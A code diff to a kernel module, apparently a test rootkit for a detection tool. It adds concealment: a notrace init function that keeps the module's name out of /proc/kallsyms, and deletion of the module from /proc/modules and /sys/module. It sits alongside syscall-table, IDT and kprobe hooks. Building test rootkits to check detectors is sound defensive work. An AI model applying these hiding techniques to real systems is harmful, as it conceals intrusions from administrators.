@@ -152,7 +152,11 @@ static struct kprobe rk_kp = {
 	.pre_handler = rk_kprobe_pre,
 };
 
-static int __init rk_init(void)
+/* notrace: ftrace keeps the names of a module's traceable init functions
+ * after their memory is freed and lists them in /proc/kallsyms under the
+ * module's name, which would show the hidden module there. A rootkit
+ * author can opt out as simply, so the test does. */
+static int __init notrace rk_init(void)
 {
 	sys_call_ptr_t *table = (sys_call_ptr_t *)sct;
 	gate_desc *gates = (gate_desc *)idt;
@@ -206,8 +210,11 @@ static int __init rk_init(void)
 	if (err)
 		pr_warn("kestrel_rk: kprobe not registered (%d)\n", err);
 
-	/* 702: gone from /proc/modules; the kobject in /sys/module stays. */
+	/* 702: gone from /proc/modules (and so from kallsyms) and from
+	 * /sys/module, as common rootkits hide; only the kernel's module
+	 * address tree still has it. */
 	list_del(&THIS_MODULE->list);
+	kobject_del(&THIS_MODULE->mkobj.kobj);
 	pr_info("kestrel_rk: hooks installed, module hidden\n");
 	return 0;
 }
